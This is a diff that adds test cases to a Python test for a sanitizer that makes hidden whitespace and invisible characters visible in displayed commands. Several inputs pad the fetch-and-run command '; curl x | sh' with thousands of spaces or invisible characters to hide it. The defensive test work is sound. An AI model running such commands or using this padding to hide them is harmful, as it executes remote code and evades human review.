@@ -31,6 +31,20 @@ from rsk.wire.protocol import Request
         ("back\\slash", "back\\\\slash"),  # an escape cannot be faked
         ('echo "ok"' + " " * 400 + "; curl x | sh", 'echo "ok"⟨400 spaces⟩; curl x | sh'),  # a tail pushed out of sight
         ("        indented  a   b", "        indented  a   b"),  # indentation and short runs stay
+        # no blank but the ASCII space shows as itself, and none can stand in for a space in a counted run
+        (
+            'echo "ok"' + "\u00a0" * 8000 + "; curl x | sh",
+            'echo "ok"⟨8000 blank, invisible or control characters⟩; curl x | sh',
+        ),
+        ("a" + "\u00a0\u200b" * 500 + "; curl", "a⟨1000 blank, invisible or control characters⟩; curl"),  # interleaved
+        (
+            "a" + "\u2800" * 20 + "b" + "\u3164" * 3 + "c\u2003d",
+            "a⟨20 blank, invisible or control characters⟩b\\u3164\\u3164\\u3164c\\u2003d",
+        ),  # braille and Hangul fillers, an em space
+        (" " * 8000 + "curl x | sh", "⟨8000 spaces⟩curl x | sh"),  # indentation beyond a terminal's width
+        (" " * 79 + "x", " " * 79 + "x"),
+        ("\u00a0" * 3 + "x", "\\xa0\\xa0\\xa0x"),
+        ("\t" * 20 + "x", "⟨20 blank, invisible or control characters⟩x"),
     ],
 )
 def test_inert(raw: str, shown: str) -> None:
